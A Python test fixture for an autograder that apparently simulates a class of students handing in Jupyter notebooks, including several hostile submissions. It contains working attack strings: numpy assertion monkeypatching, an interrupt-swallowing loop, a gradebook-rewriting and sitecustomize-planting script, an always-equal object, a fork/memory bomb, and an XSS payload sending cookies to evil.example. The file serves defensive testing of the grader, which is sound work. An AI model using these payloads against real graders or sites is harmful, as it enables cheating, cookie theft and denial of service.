"""The demo's class: what each of them hands in, under which name. None of it depends on the exercise."""

import copy
import csv
import json
import os
import unicodedata
from dataclasses import dataclass
from datetime import datetime, timedelta

import nbformat

from grading.course.cells import SOLUTION, is_answer, is_check, label, named, split_regions, without
from grading.verdict import analysis

DUE = "2026-03-31 23:59"
AT = datetime(2026, 3, 30, 12)


@dataclass(frozen=True)
class Person:
    """One of the class, and what they do."""

    name: str
    story: str
    email: str = ""


PEOPLE = {
    "ada": Person("Ada Lovelace", "solves everything"),
    "ann": Person("Ann Lee", "forgets the root, everywhere"),
    "anna": Person("Anna Lee", "does the first half, and leaves the rest"),
    "chloe": Person("Chloé Núñez", "hands in late, by two days"),
    "dmitri": Person("Дмитрий Иванов", "hands in an empty notebook, then a solved one"),
    "li": Person("李 小龙", "works in Colab, which loses all labels"),
    "mei": Person("Mei O'Neill/Tan", "answers in words only"),
    "sam": Person("Sam Smith", "adds cells of their own, prints a lot, ignores warnings"),
    "tom": Person("Tom Jones", "hands in a file that is cut off"),
    "uma": Person("Uma Rao", "hands in nothing"),
    "eve": Person("Eve Hill", "HOSTILE: patches what checks compare with, and writes scripts for answers"),
    "mallory": Person("Mallory Fox", "HOSTILE: an endless loop that swallows every interrupt"),
    "oscar": Person("Oscar Wild", "HOSTILE: looks for the gradebook and hidden checks, and writes everywhere"),
    "sybil": Person("Sybil Vane", "HOSTILE: rewrites, unlocks and deletes check cells, gives herself 100 points"),
    "trudy": Person("Trudy Moore", "HOSTILE: objects that equal everything"),
    "walter": Person("Walter Ray", "HOSTILE: a bomb of processes and memory"),
}

PATCHES = """import numpy as np

for module in (np, np.testing):
    for name in dir(module):
        if name.startswith("assert") or name in ("allclose", "isclose", "array_equal"):
            setattr(module, name, lambda *_, **__: True)"""

LOOP = """while True:
    try:
        while True:
            pass
    except BaseException:
        continue"""

SEARCH = """import glob
import os
import sqlite3

for place in glob.glob("/**/gradebook.db", recursive=True):
    sqlite3.connect(place).execute("update grade set manual_score = 100")
for folder in ("/", "/home", "/tmp", "/etc", os.getcwd()):
    try:
        open(os.path.join(folder, "sitecustomize.py"), "w").write("print('next student')")
    except OSError:
        pass"""

EQUAL = """class Yes(float):
    def __eq__(self, other):
        return True

    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = float.__hash__
    __array_priority__ = 1e9

    def __array__(self, *_, **__):
        raise SystemExit(0)


"""

BOMB = """import os

hoard = []
while True:
    try:
        os.fork()
        hoard.append(bytearray(1 << 28))
    except OSError:
        pass"""

SCRIPT = """<script>fetch('//evil.example/' + document.cookie)</script>

[look](javascript:alert(1)) <img src=x onerror=alert(1)>"""


def write_roster(file):
    """Write the class as a teacher has it."""
    with open(file, "w", encoding="utf-8", newline="") as out:
        rows = [(student, person.name, f"{student}@uni.example") for student, person in PEOPLE.items()]
        csv.writer(out).writerows([("id", "name", "email"), *rows])


def hand_in(release, source, name, folder):
    """Write the class's files, named as Moodle, Canvas, Brightspace and people name them."""
    for path, notebook, days in files(Desk(release, source), name):
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(notebook if isinstance(notebook, bytes) else nbformat.writes(notebook).encode())
        time = (AT + timedelta(days=days)).timestamp()
        os.utime(file, (time, time))


def files(desk, name):
    """Paths with notebooks, and the days after the first of them came in."""
    solved = desk.fill(desk.right)
    yield moodle("Ada Lovelace", 101, name), solved, 0
    yield moodle("Ann Lee", 102, name), desk.fill(desk.code(lambda text: text.replace("np.sqrt(", "("))), 0
    yield moodle("Anna Lee", 103, name), desk.fill(desk.first_half()), 0
    decomposed = unicodedata.normalize("NFD", "Chloé Núñez")
    yield f"{decomposed}_104_assignsubmission_file_/my {name} (1).ipynb", solved, 4
    yield f"Дмитрий Иванов/{name}.ipynb", desk.fill({}), 0
    yield f"Дмитрий Иванов/{name} (1).ipynb", solved, 1
    yield "105-88 - 李 小龙 - Mar 30, 2026 115 PM - Untitled0.ipynb", without_labels(solved), 0
    yield moodle("Mei O'Neill_Tan", 106, name), desk.fill(desk.words()), 0
    yield f"smithsam_LATE_107_3001_{name}-2.ipynb", talkative(solved), 0
    yield moodle("Tom Jones", 108, name), nbformat.writes(solved).encode()[:3000], 0
    yield moodle("Eve Hill", 201, name), desk.fill(desk.instead(PATCHES, "0") | desk.words(SCRIPT)), 0
    yield moodle("Mallory Fox", 202, name), desk.fill(desk.instead(LOOP, "0")), 0
    yield moodle("Oscar Wild", 203, name), desk.fill(desk.instead(SEARCH, "0")), 0
    yield moodle("Sybil Vane", 204, name), without_checks(desk.fill({})), 0
    yield moodle("Trudy Moore", 205, name), desk.fill(desk.instead(EQUAL, "Yes()")), 0
    yield moodle("Walter Ray", 206, name), desk.fill(desk.instead(BOMB, "0")), 0
    yield moodle("Nobody Known", 999, name), solved, 0


def moodle(person, number, name):
    """The name that Moodle gives a file."""
    return f"{person}_{number}_assignsubmission_file_{name}.ipynb"


class Desk:
    """Where the released notebook is filled in, from right answers by grade_id, with their kinds and stubs."""

    def __init__(self, release, source):
        self.release = release
        self.right, self.kinds, self.stubs = {}, {}, {}
        for name, cell in named(source).items():
            if is_answer(cell):
                self.right[name] = "\n".join(line for piece in split_regions(cell.source) for line in piece.lines)
                self.kinds[name], self.stubs[name] = cell.cell_type, without(cell.source, SOLUTION)

    def fill(self, answers):
        """The released notebook with these answers, by grade_id."""
        notebook = copy.deepcopy(self.release)
        for cell in notebook.cells:
            cell.source = answers.get(label(cell), cell.source)
        return notebook

    def code(self, change):
        """All right answers, those in code changed."""
        return {name: change(text) if self.kinds[name] == "code" else text for name, text in self.right.items()}

    def first_half(self):
        """The first half of the right answers."""
        names = list(self.right)
        return {name: self.right[name] for name in names[: len(names) // 2]}

    def words(self, text=None):
        """All written answers: the right ones, or ``text``."""
        return {name: text or self.right[name] for name, kind in self.kinds.items() if kind == "markdown"}

    def instead(self, code, value):
        """In place of every answer in code: ``code``, and whatever is asked for is ``value``."""
        answers = {}
        for name in [name for name, kind in self.kinds.items() if kind == "code"]:
            lines = []
            for defined, node in analysis.definitions(self.stubs[name]).items():
                function = type(node).__name__ in ("FunctionDef", "ClassDef")
                lines.append(f"def {defined}(*_, **__):\n    return {value}" if function else f"{defined} = {value}")
            answers[name] = "\n\n\n".join([*lines, code] if value == "0" else [code, *lines])
        return answers


def without_labels(notebook):
    """As some services save it."""
    plain = json.loads(nbformat.writes(notebook))
    plain["metadata"] = {"colab": {"provenance": []}}
    for cell in plain["cells"]:
        cell["metadata"] = {}
        del cell["id"]
    return json.dumps(plain).encode()


def talkative(notebook):
    """With cells between the others that warn and print."""
    notebook = copy.deepcopy(notebook)
    chat = "import sys\nimport warnings\n\nwarnings.warn('hm')\nprint('so far so good', file=sys.stderr)"
    for at in range(len(notebook.cells), 0, -3):
        notebook.cells.insert(at, nbformat.v4.new_code_cell(chat))
    return notebook


def without_checks(notebook):
    """Checks that were rewritten, unlocked, copied and deleted."""
    notebook = copy.deepcopy(notebook)
    for number, cell in enumerate([cell for cell in notebook.cells if is_check(cell)]):
        cell.source = "assert True"
        cell.metadata.nbgrader.update(points=100, locked=False)
        if number % 3 == 1:
            notebook.cells.remove(cell)
        elif number % 3 == 2:
            notebook.cells.insert(0, nbformat.from_dict({**cell, "id": f"copy-{number}"}))
    return notebook
